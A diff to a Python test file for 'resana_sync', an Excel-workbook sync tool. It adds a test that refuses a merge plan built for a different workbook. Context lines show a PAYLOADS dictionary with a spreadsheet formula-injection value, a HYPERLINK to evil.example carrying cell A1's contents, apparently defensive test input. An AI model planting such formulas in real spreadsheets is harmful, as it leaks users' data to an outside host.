@@ -13,11 +13,11 @@ import pandas as pd
 import pytest
 
 from resana_sync.errors import WorkbookError
-
+from resana_sync.merge import plan_merge
 from resana_sync.workbook import SharedWorkbook
 from resana_sync.workbook.cells import EXCEL_TEXT_LIMIT, TRUNCATION_MARKER
 
-from .helpers import column_of, edit, merge, record, row_of, set_cell, sheet_rows, suivi_by_id
+from .helpers import NOW, column_of, edit, merge, record, row_of, set_cell, sheet_rows, suivi_by_id
 
 PAYLOADS = {
     "contact_referent": '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
@@ -305,3 +305,14 @@ def test_an_unreadable_metadata_sheet_is_ignored_not_fatal(schema):
         wb["_resana_sync"]["C2"] = "{pas du json"
     snapshot = SharedWorkbook.open(edit(book.to_bytes(), spoil), schema).snapshot()
     assert snapshot.metadata.pushed == {} and len(snapshot.suivi) == 1
+
+
+def test_a_plan_made_for_another_workbook_is_refused_before_any_write(schema):
+    book = SharedWorkbook.open(None, schema)
+    first = merge(book, [record()], schema)
+    later = plan_merge(book.snapshot(), [record(classe="3e")], first.pushed_after, schema=schema, now=NOW)
+    other = SharedWorkbook.open(None, schema)
+    before = other.to_bytes()
+    with pytest.raises(WorkbookError, match="relancez"):
+        other.apply(later)
+    assert sheet_rows(other.to_bytes(), "Suivi") == sheet_rows(before, "Suivi") == []
